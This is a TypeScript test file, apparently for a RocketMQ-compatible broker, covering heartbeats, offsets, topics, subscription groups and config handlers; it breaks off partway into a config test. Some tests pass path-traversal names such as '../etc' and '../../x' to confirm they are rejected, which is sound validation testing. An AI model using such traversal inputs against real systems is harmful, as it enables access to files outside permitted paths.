/**
 * The broker's request handlers over in-memory connections (RemotingServer.handle on a duplexPair):
 * each code's answer, the bodies Java clients and mqadmin read, upstream's codes and remarks for bad
 * input, NOTIFY_CONSUMER_IDS_CHANGED to group members, and the VIP channel.
 */
import assert from 'node:assert/strict';
import { afterEach, describe, test } from 'node:test';
import { formatConfigValue } from '../../../src/broker/broker-config.js';
import { UPDATABLE_BROKER_CONFIG } from '../../../src/broker/broker-configuration.js';
import type { BrokerRequestHandler } from '../../../src/broker/processor/broker-context.js';
import { BROKER_REQUEST_HANDLERS } from '../../../src/broker/processor/processor-table.js';
import { parseJavaProperties } from '../../../src/common/java-properties.js';
import { encodeCheckClientRequestBody } from '../../../src/common/protocol/check-client-request-body.js';
import { decodeConsumerConnection } from '../../../src/common/protocol/consumer-connection.js';
import { decodeConsumerIdList } from '../../../src/common/protocol/consumer-list-by-group.js';
import { decodeConsumerOffsetTable } from '../../../src/common/protocol/consumer-offset-wrapper.js';
import { decodeDataVersion } from '../../../src/common/protocol/data-version.js';
import { decodeGroupList } from '../../../src/common/protocol/group-list.js';
import { decodeProducerConnection } from '../../../src/common/protocol/producer-connection.js';
import { decodeTopicConfigSerializeWrapper } from '../../../src/common/protocol/register-broker-body.js';
import {
  createSubscriptionGroupConfig,
  decodeSubscriptionGroupWrapper,
  encodeSubscriptionGroupConfig,
} from '../../../src/common/protocol/subscription-group-config.js';
import { createTopicConfig } from '../../../src/common/protocol/topic-config.js';
import { decodeTopicConfigAndQueueMapping } from '../../../src/common/protocol/topic-config-and-queue-mapping.js';
import {
  createRequest,
  createResponse,
  type RemotingCommand,
} from '../../../src/remoting/protocol/command.js';
import { decodeHeader, encodeHeader } from '../../../src/remoting/protocol/header-schema.js';
import { GetTopicConfigRequestHeader } from '../../../src/remoting/protocol/headers/get-topic-config-request-header.js';
import {
  CreateTopicRequestHeader,
  DeleteSubscriptionGroupRequestHeader,
  DeleteTopicRequestHeader,
  GetBrokerConfigResponseHeader,
  GetConsumerConnectionListRequestHeader,
  GetConsumerListByGroupRequestHeader,
  GetEarliestMsgStoretimeRequestHeader,
  GetMaxOffsetRequestHeader,
  GetMinOffsetRequestHeader,
  GetProducerConnectionListRequestHeader,
  QueryConsumerOffsetRequestHeader,
  QueryTopicConsumeByWhoRequestHeader,
  SearchOffsetRequestHeader,
  UnregisterClientRequestHeader,
  UpdateConsumerOffsetRequestHeader,
} from '../../../src/remoting/protocol/headers/index.js';
import { RequestCode } from '../../../src/remoting/protocol/request-code.js';
import { ResponseCode } from '../../../src/remoting/protocol/response-code.js';
import {
  connectInMemory,
  consumerHeartbeat,
  heartbeatRequest,
  settle,
  type TestBroker,
  testBroker,
} from './helpers.js';
import { cleanUp, track } from './store-broker.js';

const LIMIT = { timeout: 5_000 };
afterEach(cleanUp);

async function setup(config: Parameters<typeof testBroker>[0] = {}): Promise<TestBroker> {
  const t = await testBroker(config);
  track(t.broker);
  return t;
}

function req(code: number, extFields?: Record<string, string>, body?: Buffer): RemotingCommand {
  return createRequest(code, { extFields, body });
}

const createTopic = (topic: string, fields: Partial<Record<string, string>> = {}) =>
  req(RequestCode.UPDATE_AND_CREATE_TOPIC, {
    ...encodeHeader(CreateTopicRequestHeader, {
      topic,
      defaultTopic: 'TBW102',
      readQueueNums: 4,
      writeQueueNums: 4,
      perm: 6,
      topicFilterType: 'SINGLE_TAG',
      topicSysFlag: 0,
      order: false,
    }),
    ...(fields as Record<string, string>),
  });

describe('HEART_BEAT', () => {
  test(
    'registers groups, creates the subscription group and retry topic, answers with version 409',
    LIMIT,
    async () => {
      const { broker } = await setup();
      const c = connectInMemory(broker, '10.0.0.5:53211');
      const hb = consumerHeartbeat('10.0.0.5@1#2', 'cg', ['TopicTest', '%RETRY%cg']);
      hb.producerDataSet.push({ groupName: 'pg' });
      const reply = await c.call(heartbeatRequest(hb, 317, 'GO'));
      assert.equal(reply.code, ResponseCode.SUCCESS);
      assert.equal(reply.version, 409, 'the Java client stores this as the broker version');
      assert.equal(reply.remark, undefined);
      assert.deepEqual(
        broker.subscriptionGroupManager.subscriptionGroupTable.get('cg'),
        createSubscriptionGroupConfig('cg'),
      );
      assert.deepEqual(
        broker.topicConfigManager.selectTopicConfig('%RETRY%cg'),
        createTopicConfig('%RETRY%cg', { readQueueNums: 1, writeQueueNums: 1, perm: 6 }),
      );
      const member = broker.consumerManager.findChannel('cg', '10.0.0.5@1#2');
      assert.equal(member?.language, 'GO');
      assert.equal(member?.version, 317);
      assert.equal(member?.channel.remoteAddress, '10.0.0.5:53211');
      assert.ok(broker.producerManager.groupChannelTable.get('pg'));
    },
  );

  test('retryQueueNums of the group and unit mode', LIMIT, async () => {
    const { broker } = await setup();
    broker.subscriptionGroupManager.updateSubscriptionGroupConfig(
      createSubscriptionGroupConfig('cg', { retryQueueNums: 3 }),
    );
    const hb = consumerHeartbeat('c1', 'cg', ['T']);
    (hb.consumerDataSet[0] as { unitMode: boolean }).unitMode = true;
    await connectInMemory(broker).call(heartbeatRequest(hb));
    const retry = broker.topicConfigManager.selectTopicConfig('%RETRY%cg');
    assert.deepEqual([retry?.writeQueueNums, retry?.topicSysFlag], [3, 2]);
  });

  test('members are told when the group changes (NOTIFY_CONSUMER_IDS_CHANGED, oneway)', LIMIT, async () => {
    const { broker } = await setup();
    const a = connectInMemory(broker, '10.0.0.1:1');
    const b = connectInMemory(broker, '10.0.0.2:1');
    const aNotified = a.nextRequest();
    await a.call(heartbeatRequest(consumerHeartbeat('A', 'cg', ['T'])));
    const first = await aNotified;
    assert.equal(first.code, RequestCode.NOTIFY_CONSUMER_IDS_CHANGED);
    assert.equal(first.flag & 2, 2, 'oneway');
    assert.deepEqual(first.extFields, { consumerGroup: 'cg' });
    const aAgain = a.nextRequest();
    const bNotified = b.nextRequest();
    await b.call(heartbeatRequest(consumerHeartbeat('B', 'cg', ['T'])));
    await Promise.all([aAgain, bNotified]);
    // A repeated heartbeat changes nothing and tells nobody.
    const before = a.received.length + b.received.length;
    await a.call(heartbeatRequest(consumerHeartbeat('A', 'cg', ['T'])));
    await settle();
    assert.equal(a.received.length + b.received.length, before);
    // B's connection closes: A is told.
    const aAfterClose = a.nextRequest();
    b.client.close();
    assert.deepEqual((await aAfterClose).extFields, { consumerGroup: 'cg' });
    assert.deepEqual(broker.consumerManager.getConsumerGroupInfo('cg')?.getAllClientId(), ['A']);
  });

  test('nobody is told when the group or the broker opted out', LIMIT, async () => {
    const { broker } = await setup();
    broker.subscriptionGroupManager.updateSubscriptionGroupConfig(
      createSubscriptionGroupConfig('quiet', { notifyConsumerIdsChangedEnable: false }),
    );
    const a = connectInMemory(broker);
    await a.call(heartbeatRequest(consumerHeartbeat('A', 'quiet', ['T'])));
    broker.config.notifyConsumerIdsChangedEnable = false;
    await a.call(heartbeatRequest(consumerHeartbeat('A', 'loud', ['T'])));
    await settle();
    assert.equal(a.received.length, 0);
  });

  test('bad bodies and group names: SYSTEM_ERROR, nothing registered', LIMIT, async () => {
    const { broker, io } = await setup();
    const c = connectInMemory(broker);
    const empty = await c.call(req(RequestCode.HEART_BEAT));
    assert.equal(empty.code, ResponseCode.SYSTEM_ERROR);
    assert.match(empty.remark ?? '', /HeartbeatData: the body is empty/);
    const garbage = await c.call(req(RequestCode.HEART_BEAT, undefined, Buffer.from('{"clientID":')));
    assert.equal(garbage.code, ResponseCode.SYSTEM_ERROR);
    for (const group of ['../../x', 'a/b', '', 'g h']) {
      const r = await c.call(heartbeatRequest(consumerHeartbeat('A', group, ['T'])));
      assert.equal(r.code, ResponseCode.SYSTEM_ERROR, group);
    }
    const producerBad = consumerHeartbeat('A', 'ok', []);
    producerBad.producerDataSet.push({ groupName: 'p/x' });
    assert.equal((await c.call(heartbeatRequest(producerBad))).code, ResponseCode.SYSTEM_ERROR);
    assert.equal(broker.consumerManager.consumerTable.size, 0);
    await broker.topicConfigManager.flushed();
    assert.equal(io.writes.length, 0);
  });

  test('a group too long for a retry topic still registers, without the topic', LIMIT, async () => {
    const { broker } = await setup();
    const group = 'g'.repeat(200);
    const r = await connectInMemory(broker).call(heartbeatRequest(consumerHeartbeat('A', group, ['T'])));
    assert.equal(r.code, ResponseCode.SUCCESS);
    assert.ok(broker.consumerManager.getConsumerGroupInfo(group));
    assert.equal(broker.topicConfigManager.selectTopicConfig(`%RETRY%${group}`), undefined);
  });
});

describe('HEART_BEAT V2 (5.x clients with com.rocketmq.heartbeat.v2)', () => {
  const FP = 511999650;
  /** A 5.x heartbeat: fingerprint set; withoutSub leaves the subscriptions out, as the client does. */
  const v2 = (clientId: string, group: string, fingerprint: number, withoutSub: boolean) => {
    const hb = consumerHeartbeat(clientId, group, withoutSub ? [] : ['T', `%RETRY%${group}`]);
    return heartbeatRequest({ ...hb, heartbeatFingerprint: fingerprint, withoutSub }, 475);
  };
  const flags = (r: RemotingCommand) => [r.extFields?.IS_SUPPORT_HEART_BEAT_V2, r.extFields?.IS_SUB_CHANGE];

  test(
    'a 4.x-style heartbeat is answered IS_SUPPORT_HEART_BEAT_V2=true, IS_SUB_CHANGE=true',
    LIMIT,
    async () => {
      const { broker } = await setup();
      const r = await connectInMemory(broker).call(heartbeatRequest(consumerHeartbeat('A', 'cg', ['T'])));
      assert.equal(r.code, ResponseCode.SUCCESS);
      assert.equal(r.version, 409);
      assert.deepEqual(flags(r), ['true', 'true']);
      const producerOnly = await connectInMemory(broker).call(
        heartbeatRequest({ clientID: 'P', producerDataSet: [{ groupName: 'pg' }], consumerDataSet: [] }),
      );
      assert.deepEqual(flags(producerOnly), ['true', 'true']);
    },
  );

  test('withoutSub heartbeats keep the subscriptions while the fingerprint stays', LIMIT, async () => {
    const { broker } = await setup();
    const c = connectInMemory(broker, '10.0.0.7:7');
    assert.deepEqual(flags(await c.call(v2('A', 'cg', FP, false))), ['true', 'false']);
    const short = await c.call(v2('A', 'cg', FP, true));
    assert.equal(short.code, ResponseCode.SUCCESS);
    assert.deepEqual(flags(short), ['true', 'false']);
    assert.equal(broker.consumerManager.findSubscriptionData('cg', 'T')?.subString, '*');
    assert.equal(broker.consumerManager.findSubscriptionDataCount('cg'), 2);
    assert.deepEqual(broker.consumerManager.getConsumerGroupInfo('cg')?.getAllClientId(), ['A']);
    // A second member joining with the short form is registered and the group is told.
    const b = connectInMemory(broker, '10.0.0.8:8');
    const told = c.nextRequest();
    assert.deepEqual(flags(await b.call(v2('B', 'cg', FP, true))), ['true', 'false']);
    assert.equal((await told).code, RequestCode.NOTIFY_CONSUMER_IDS_CHANGED);
    assert.deepEqual(broker.consumerManager.getConsumerGroupInfo('cg')?.getAllClientId().sort(), ['A', 'B']);
    assert.equal(broker.consumerManager.findSubscriptionDataCount('cg'), 2);
  });

  test(
    'IS_SUB_CHANGE when the group last heartbeat had another fingerprint, or was 4.x-style',
    LIMIT,
    async () => {
      const { broker } = await setup();
      const c = connectInMemory(broker);
      await c.call(v2('A', 'cg', FP, false));
      assert.deepEqual(flags(await c.call(v2('A', 'cg', FP + 1, false))), ['true', 'true']);
      assert.deepEqual(flags(await c.call(v2('A', 'cg', FP + 1, false))), ['true', 'false']);
      await c.call(heartbeatRequest(consumerHeartbeat('A', 'cg', ['T'])));
      assert.deepEqual(flags(await c.call(v2('A', 'cg', FP + 1, false))), ['true', 'true']);
    },
  );

  test('a short heartbeat for a group that lost its subscriptions asks for the full one', LIMIT, async () => {
    const { broker } = await setup();
    const a = connectInMemory(broker);
    await a.call(v2('A', 'cg', FP, false));
    // The only member's connection closes: the group and its subscriptions go.
    a.client.close();
    for (let i = 0; i < 50 && broker.consumerManager.getConsumerGroupInfo('cg'); i++) await settle();
    assert.equal(broker.consumerManager.getConsumerGroupInfo('cg'), undefined);
    const again = connectInMemory(broker);
    assert.deepEqual(flags(await again.call(v2('A', 'cg', FP, true))), ['true', 'true']);
    assert.deepEqual(flags(await again.call(v2('A', 'cg', FP, false))), ['true', 'false']);
    assert.equal(broker.consumerManager.findSubscriptionDataCount('cg'), 2);
  });
});

describe('UNREGISTER_CLIENT / GET_CONSUMER_LIST_BY_GROUP', () => {
  test('list, unregister, and the error when nobody is left', LIMIT, async () => {
    const { broker } = await setup();
    const a = connectInMemory(broker, '10.0.0.1:1');
    const b = connectInMemory(broker, '10.0.0.2:1');
    const hbA = consumerHeartbeat('A', 'cg', ['T']);
    hbA.producerDataSet.push({ groupName: 'pg' });
    await a.call(heartbeatRequest(hbA));
    await b.call(heartbeatRequest(consumerHeartbeat('B', 'cg', ['T'])));
    const list = (group: string) =>
      a.call(
        req(
          RequestCode.GET_CONSUMER_LIST_BY_GROUP,
          encodeHeader(GetConsumerListByGroupRequestHeader, { consumerGroup: group }),
        ),
      );
    assert.deepEqual(decodeConsumerIdList((await list('cg')).body), ['A', 'B']);
    const bTold = b.nextRequest();
    const unreg = await a.call(
      req(
        RequestCode.UNREGISTER_CLIENT,
        encodeHeader(UnregisterClientRequestHeader, {
          clientID: 'A',
          producerGroup: 'pg',
          consumerGroup: 'cg',
        }),
      ),
    );
    assert.equal(unreg.code, ResponseCode.SUCCESS);
    assert.equal((await bTold).code, RequestCode.NOTIFY_CONSUMER_IDS_CHANGED);
    assert.deepEqual(decodeConsumerIdList((await list('cg')).body), ['B']);
    assert.equal(broker.producerManager.groupChannelTable.has('pg'), false);
    const none = await list('nobody');
    assert.equal(none.code, ResponseCode.SYSTEM_ERROR);
    assert.equal(none.remark, 'no consumer for this group, nobody');
    const missing = await a.call(req(RequestCode.GET_CONSUMER_LIST_BY_GROUP));
    assert.equal(missing.code, ResponseCode.SYSTEM_ERROR);
    assert.equal(missing.remark, 'the custom field <consumerGroup> is null');
    const noId = await a.call(req(RequestCode.UNREGISTER_CLIENT, {}));
    assert.equal(noId.remark, 'the custom field <clientID> is null');
  });
});

describe('consumer offsets', () => {
  test('UPDATE_CONSUMER_OFFSET then QUERY_CONSUMER_OFFSET', LIMIT, async () => {
    const { broker } = await setup();
    const c = connectInMemory(broker);
    const q = (queueId: number) =>
      c.call(
        req(
          RequestCode.QUERY_CONSUMER_OFFSET,
          encodeHeader(QueryConsumerOffsetRequestHeader, { consumerGroup: 'g', topic: 'T', queueId }),
        ),
      );
    const up = await c.call(
      req(
        RequestCode.UPDATE_CONSUMER_OFFSET,
        encodeHeader(UpdateConsumerOffsetRequestHeader, {
          consumerGroup: 'g',
          topic: 'T',
          queueId: 1,
          commitOffset: 118n,
        }),
      ),
    );
    assert.equal(up.code, ResponseCode.SUCCESS);
    const found = await q(1);
    assert.equal(found.code, ResponseCode.SUCCESS);
    assert.deepEqual(found.extFields, { offset: '118' });
    assert.equal(broker.consumerOffsetManager.queryOffset('g', 'T', 1), 118n);
  });

  test('no offset: 0 while the queue starts at 0 in memory, else QUERY_NOT_FOUND', LIMIT, async () => {
    const { broker, store } = await setup();
    const c = connectInMemory(broker);
    const q = (queueId: number) =>
      c.call(
        req(
          RequestCode.QUERY_CONSUMER_OFFSET,
          encodeHeader(QueryConsumerOffsetRequestHeader, { consumerGroup: 'g', topic: 'T', queueId }),
        ),
      );
    assert.deepEqual((await q(0)).extFields, { offset: '0' });
    store.min.set('T/1', 10n);
    store.inDisk.add('T/2/0');
    for (const queueId of [1, 2]) {
      const r = await q(queueId);
      assert.equal(r.code, ResponseCode.QUERY_NOT_FOUND);
      assert.equal(r.remark, 'Not found, V3_0_6_SNAPSHOT maybe this group consumer boot first');
    }
  });

  test('header errors are upstream text', LIMIT, async () => {
    const { broker } = await setup();
    const c = connectInMemory(broker);
    const r = await c.call(
      req(RequestCode.UPDATE_CONSUMER_OFFSET, {
        consumerGroup: 'g',
        topic: 'T',
        queueId: 'x',
        commitOffset: '1',
      }),
    );
    assert.equal(r.code, ResponseCode.SYSTEM_ERROR);
    assert.match(r.remark ?? '', /queueId/);
  });

  test('GET_ALL_CONSUMER_OFFSET', LIMIT, async () => {
    const { broker } = await setup();
    broker.consumerOffsetManager.commitOffset('h', 'g', 'T', 0, 5n);
    const r = await connectInMemory(broker).call(req(RequestCode.GET_ALL_CONSUMER_OFFSET));
    assert.equal(r.body?.toString(), '{"offsetTable":{"T@g":{0:5}}}');
    assert.deepEqual(decodeConsumerOffsetTable(r.body ?? Buffer.alloc(0)).get('T@g'), new Map([[0, 5n]]));
  });
});

describe('store lookups', () => {
  test(
    'GET_MAX_OFFSET, GET_MIN_OFFSET, SEARCH_OFFSET_BY_TIMESTAMP, GET_EARLIEST_MSG_STORETIME',
    LIMIT,
    async () => {
      const { broker, store } = await setup();
      store.max.set('T/2', 1000n);
      store.min.set('T/2', 10n);
      const c = connectInMemory(broker);
      const max = await c.call(
        req(RequestCode.GET_MAX_OFFSET, encodeHeader(GetMaxOffsetRequestHeader, { topic: 'T', queueId: 2 })),
      );
      assert.deepEqual(max.extFields, { offset: '1000' });
      const min = await c.call(
        req(RequestCode.GET_MIN_OFFSET, encodeHeader(GetMinOffsetRequestHeader, { topic: 'T', queueId: 2 })),
      );
      assert.deepEqual(min.extFields, { offset: '10' });
      const byTime = await c.call(
        req(
          RequestCode.SEARCH_OFFSET_BY_TIMESTAMP,
          encodeHeader(SearchOffsetRequestHeader, { topic: 'T', queueId: 2, timestamp: 1700000000000n }),
        ),
      );
      assert.deepEqual(byTime.extFields, { offset: '42' });
      const earliest = await c.call(
        req(
          RequestCode.GET_EARLIEST_MSG_STORETIME,
          encodeHeader(GetEarliestMsgStoretimeRequestHeader, { topic: 'T', queueId: 2 }),
        ),
      );
      assert.deepEqual(earliest.extFields, { timestamp: '1700000000999' });
      assert.deepEqual(store.calls, ['byTime T/2/1700000000000', 'earliest T/2']);
      const bad = await c.call(req(RequestCode.GET_MAX_OFFSET, { topic: 'T' }));
      assert.equal(bad.remark, 'the custom field <queueId> is null');
    },
  );
});

describe('store maintenance (mqadmin cleanExpiredCQ, cleanUnusedTopic, deleteExpiredCommitLog)', () => {
  test('each code hands its job to the store and answers SUCCESS', LIMIT, async () => {
    const { broker, store } = await setup();
    const c = connectInMemory(broker);
    for (const code of [RequestCode.CLEAN_EXPIRED_CONSUMEQUEUE, RequestCode.DELETE_EXPIRED_COMMITLOG]) {
      const r = await c.call(req(code));
      assert.equal(r.code, ResponseCode.SUCCESS, r.remark);
    }
    assert.deepEqual(store.calls, ['cleanExpiredConsumerQueue', 'executeDeleteFilesManually']);
    const r = await c.call(req(RequestCode.CLEAN_UNUSED_TOPIC));
    assert.equal(r.code, ResponseCode.SUCCESS, r.remark);
    assert.deepEqual(store.cleaned.at(-1), new Set(broker.topicConfigManager.topicConfigTable.keys()));
  });
});

describe('topics', () => {
  test(
    'UPDATE_AND_CREATE_TOPIC creates, writes topics.json, and GET_ALL_TOPIC_CONFIG shows it',
    LIMIT,
    async () => {
      const { broker, io } = await setup();
      const c = connectInMemory(broker);
      const r = await c.call(
        createTopic('TopicA', { topicFilterType: 'MULTI_TAG', perm: '4', topicSysFlag: '1' }),
      );
      assert.equal(r.code, ResponseCode.SUCCESS, r.remark);
      const expected = createTopicConfig('TopicA', {
        readQueueNums: 4,
        writeQueueNums: 4,
        perm: 4,
        topicFilterType: 'MULTI_TAG',
        topicSysFlag: 1,
      });
      assert.deepEqual(broker.topicConfigManager.selectTopicConfig('TopicA'), expected);
      assert.match(
        io.files.get('/mem/store/config/topics.json') ?? '',
        /"TopicA"/,
        'written before the answer',
      );
      const all = await c.call(req(RequestCode.GET_ALL_TOPIC_CONFIG));
      const wrapper = decodeTopicConfigSerializeWrapper(all.body, { timestamp: 0n });
      assert.deepEqual(wrapper.topicConfigTable.get('TopicA'), expected);
      assert.equal(wrapper.dataVersion.counter, 1n);
      // GET_TOPIC_CONFIG (5.x mqadmin topicStatus): the one topic, with and without `lo`.
      for (const lo of [undefined, true]) {
        const one = await c.call(
          req(
            RequestCode.GET_TOPIC_CONFIG,
            encodeHeader(GetTopicConfigRequestHeader, { topic: 'TopicA', lo }),
          ),
        );
        assert.equal(one.code, ResponseCode.SUCCESS, one.remark);
        assert.deepEqual(decodeTopicConfigAndQueueMapping(one.body), expected);
        assert.match(
          one.body?.toString() ?? '',
          /^\{"attributes":\{\},"liteTopicExpiration":-1,"order":false/,
        );
      }
    },
  );

  test(
    'GET_TOPIC_CONFIG: TOPIC_NOT_EXIST for an unknown topic, an error for a missing one',
    LIMIT,
    async () => {
      const { broker } = await setup();
      const c = connectInMemory(broker);
      const unknown = await c.call(
        req(
          RequestCode.GET_TOPIC_CONFIG,
          encodeHeader(GetTopicConfigRequestHeader, { topic: 'NoSuchTopic' }),
        ),
      );
      assert.equal(unknown.code, ResponseCode.TOPIC_NOT_EXIST);
      assert.equal(unknown.remark, 'No topic in this broker. topic: NoSuchTopic');
      assert.equal(unknown.body, undefined);
      const missing = await c.call(req(RequestCode.GET_TOPIC_CONFIG, {}));
      assert.notEqual(missing.code, ResponseCode.SUCCESS);
      assert.equal(missing.remark, 'the custom field <topic> is null');
    },
  );

  test('bad topics: upstream codes and remarks, nothing written', LIMIT, async () => {
    const { broker, io } = await setup();
    const c = connectInMemory(broker);
    const cases: Array<[RemotingCommand, number, string | RegExp]> = [
      [
        createTopic('../etc'),
        ResponseCode.SYSTEM_ERROR,
        'The specified topic contains illegal characters, allowing only ^[%|a-zA-Z0-9_-]+$',
      ],
      [
        createTopic('x'.repeat(128)),
        ResponseCode.SYSTEM_ERROR,
        'The specified topic is longer than topic max length.',
      ],
      [createTopic(' '), ResponseCode.SYSTEM_ERROR, 'The specified topic is blank.'],
      [createTopic('TBW102'), ResponseCode.SYSTEM_ERROR, 'The topic[TBW102] is conflict with system topic.'],
      [
        createTopic('broker-a'),
        ResponseCode.SYSTEM_ERROR,
        'The topic[broker-a] is conflict with system topic.',
      ],
      [
        createTopic('rmq_sys_x'),
        ResponseCode.SYSTEM_ERROR,
        'The topic[rmq_sys_x] is conflict with system topic.',
      ],
      [createTopic('T', { topicFilterType: 'BOTH' }), ResponseCode.SYSTEM_ERROR, /TopicFilterType\.BOTH/],
      [
        createTopic('T', { writeQueueNums: '100000' }),
        ResponseCode.SYSTEM_ERROR,
        /writeQueueNums must be between 0 and 65536/,
      ],
      [createTopic('T', { perm: 'rw' }), ResponseCode.SYSTEM_ERROR, /<perm>/],
      [
        req(RequestCode.UPDATE_AND_CREATE_TOPIC, { topic: 'T' }),
        ResponseCode.SYSTEM_ERROR,
        'the custom field <defaultTopic> is null',
      ],
    ];
    for (const [request, code, remark] of cases) {
      const r = await c.call(request);
      assert.equal(r.code, code, String(request.extFields?.topic));
      if (typeof remark === 'string') assert.equal(r.remark, remark);
      else assert.match(r.remark ?? '', remark);
    }
    await broker.topicConfigManager.flushed();
    assert.equal(io.writes.length, 0);
  });

  test(
    'DELETE_TOPIC_IN_BROKER removes the config, then asks the store to drop unused queues',
    LIMIT,
    async () => {
      const { broker, store } = await setup();
      const c = connectInMemory(broker);
      await c.call(createTopic('TopicA'));
      const del = (topic: string) =>
        c.call(req(RequestCode.DELETE_TOPIC_IN_BROKER, encodeHeader(DeleteTopicRequestHeader, { topic })));
      const r = await del('TopicA');
      assert.equal(r.code, ResponseCode.SUCCESS);
      assert.equal(broker.topicConfigManager.selectTopicConfig('TopicA'), undefined);
      assert.equal(store.cleaned.length, 1);
      assert.ok(store.cleaned[0]?.has('TBW102') && !store.cleaned[0]?.has('TopicA'));
      assert.equal(
        (await del('SCHEDULE_TOPIC_XXXX')).remark,
        'The topic[SCHEDULE_TOPIC_XXXX] is conflict with system topic.',
      );
      assert.equal((await del('a/b')).code, ResponseCode.SYSTEM_ERROR);
      assert.equal((await del('%LMQ%x')).code, ResponseCode.SUCCESS);
      assert.equal(store.cleaned.length, 1, 'light message queues are not the store cleanup');
    },
  );

  test('a slave refuses metadata changes', LIMIT, async () => {
    const { broker } = await setup({ brokerRole: 'SLAVE', brokerId: 1 });
    const c = connectInMemory(broker);
    const requests = [
      createTopic('TopicA'),
      req(RequestCode.DELETE_TOPIC_IN_BROKER, { topic: 'TopicA' }),
      req(
        RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP,
        undefined,
        encodeSubscriptionGroupConfig(createSubscriptionGroupConfig('g')),
      ),
      req(RequestCode.DELETE_SUBSCRIPTIONGROUP, { groupName: 'g' }),
    ];
    for (const request of requests) {
      const r = await c.call(request);
      assert.equal(r.code, ResponseCode.SYSTEM_ERROR);
      assert.equal(
        r.remark,
        "Can't modify topic or subscription group from slave broker, please execute it from master broker.",
      );
    }
  });
});

describe('subscription groups', () => {
  test('create, list, delete with offsets', LIMIT, async () => {
    const { broker, io } = await setup();
    const c = connectInMemory(broker);
    const config = createSubscriptionGroupConfig('cg-custom', { retryMaxTimes: 3, retryQueueNums: 2 });
    const r = await c.call(
      req(RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP, undefined, encodeSubscriptionGroupConfig(config)),
    );
    assert.equal(r.code, ResponseCode.SUCCESS);
    assert.match(io.files.get('/mem/store/config/subscriptionGroup.json') ?? '', /"cg-custom"/);
    const all = await c.call(req(RequestCode.GET_ALL_SUBSCRIPTIONGROUP_CONFIG));
    const wrapper = decodeSubscriptionGroupWrapper(all.body ?? Buffer.alloc(0), { timestamp: 0n });
    assert.deepEqual(wrapper.subscriptionGroupTable.get('cg-custom'), config);
    assert.ok(wrapper.subscriptionGroupTable.has('TOOLS_CONSUMER'));
    broker.consumerOffsetManager.commitOffset('h', 'cg-custom', 'T', 0, 1n);
    const del = await c.call(
      req(
        RequestCode.DELETE_SUBSCRIPTIONGROUP,
        encodeHeader(DeleteSubscriptionGroupRequestHeader, { groupName: 'cg-custom', removeOffset: true }),
      ),
    );
    assert.equal(del.code, ResponseCode.SUCCESS);
    assert.equal(broker.subscriptionGroupManager.subscriptionGroupTable.has('cg-custom'), false);
    assert.equal(broker.consumerOffsetManager.queryOffset('cg-custom', 'T', 0), -1n);
    assert.equal(io.files.get('/mem/store/config/consumerOffset.json'), '{\n\t"offsetTable":{}\n}');
  });

  test('bad bodies: SYSTEM_ERROR naming the problem', LIMIT, async () => {
    const { broker } = await setup();
    const c = connectInMemory(broker);
    const cases: Array<[Buffer | undefined, RegExp]> = [
      [undefined, /SubscriptionGroupConfig: the body is empty/],
      [Buffer.from('{"retryQueueNums":1}'), /groupName: missing/],
      [Buffer.from('{"groupName":"a/b"}'), /illegal characters/],
      [Buffer.from('{"groupName":"g","retryQueueNums":-1}'), /retryQueueNums must be between/],
    ];
    for (const [body, remark] of cases) {
      const r = await c.call(req(RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP, undefined, body));
      assert.equal(r.code, ResponseCode.SYSTEM_ERROR);
      assert.match(r.remark ?? '', remark);
    }
  });
});

describe('connections and consumers of a topic', () => {
  test(
    'GET_CONSUMER_CONNECTION_LIST, GET_PRODUCER_CONNECTION_LIST, QUERY_TOPIC_CONSUME_BY_WHO',
    LIMIT,
    async () => {
      const { broker } = await setup();
      const a = connectInMemory(broker, '10.0.0.5:53211');
      const hb = consumerHeartbeat('10.0.0.5@1#2', 'cg', ['TopicTest']);
      hb.producerDataSet.push({ groupName: 'pg' });
      await a.call(heartbeatRequest(hb));
      const cc = await a.call(
        req(
          RequestCode.GET_CONSUMER_CONNECTION_LIST,
          encodeHeader(GetConsumerConnectionListRequestHeader, { consumerGroup: 'cg' }),
        ),
      );
      assert.equal(cc.code, ResponseCode.SUCCESS);
      const conn = decodeConsumerConnection(cc.body);
      assert.deepEqual(conn.connectionSet, [
        { clientAddr: '10.0.0.5:53211', clientId: '10.0.0.5@1#2', language: 'JAVA', version: 409 },
      ]);
      assert.deepEqual([...conn.subscriptionTable.keys()], ['TopicTest']);
      assert.deepEqual(
        [conn.consumeType, conn.messageModel, conn.consumeFromWhere],
        ['CONSUME_PASSIVELY', 'CLUSTERING', 'CONSUME_FROM_LAST_OFFSET'],
      );
      const offline = await a.call(
        req(RequestCode.GET_CONSUMER_CONNECTION_LIST, { consumerGroup: 'nobody' }),
      );
      assert.equal(offline.code, ResponseCode.CONSUMER_NOT_ONLINE);
      assert.equal(offline.remark, 'the consumer group[nobody] not online');
      const pc = await a.call(
        req(
          RequestCode.GET_PRODUCER_CONNECTION_LIST,
          encodeHeader(GetProducerConnectionListRequestHeader, { producerGroup: 'pg' }),
        ),
      );
      assert.deepEqual(
        decodeProducerConnection(pc.body).connectionSet.map((x) => x.clientId),
        ['10.0.0.5@1#2'],
      );
      const noProducer = await a.call(
        req(RequestCode.GET_PRODUCER_CONNECTION_LIST, { producerGroup: 'none' }),
      );
      assert.equal(noProducer.code, ResponseCode.SYSTEM_ERROR);
      assert.equal(noProducer.remark, 'the producer group[none] not exist');
      broker.consumerOffsetManager.commitOffset('h', 'offline-group', 'TopicTest', 0, 3n);
      const who = await a.call(
        req(
          RequestCode.QUERY_TOPIC_CONSUME_BY_WHO,
          encodeHeader(QueryTopicConsumeByWhoRequestHeader, { topic: 'TopicTest' }),
        ),
      );
      assert.deepEqual(new Set(decodeGroupList(who.body)), new Set(['cg', 'offline-group']));
    },
  );
});

describe('broker config', () => {
  test('GET_BROKER_CONFIG: properties body and DataVersion header', LIMIT, async () => {
    const { broker } = await setup();
    const r = await connectInMemory(broker).call(req(RequestCode.GET_BROKER_CONFIG));
    assert.equal(r.code, ResponseCode.SUCCESS);
    const props = parseJavaProperties(r.body?.toString('utf8') ?? '');
    assert.equal(props.get('brokerName'), 'broker-a');
    assert.equal(props.get('storePathRootDir'), '/mem/store');
    assert.equal(props.get('brokerClusterName'), 'DefaultCluster');
    const version = decodeHeader(GetBrokerConfigResponseHeader, r.extFields).version;
    assert.deepEqual(decodeDataVersion(Buffer.from(version), { timestamp: 0n }).counter, 0n);
  });

  test('UPDATE_BROKER_CONFIG: allowlisted keys change, the version moves', LIMIT, async () => {
    const { broker } = await setup();
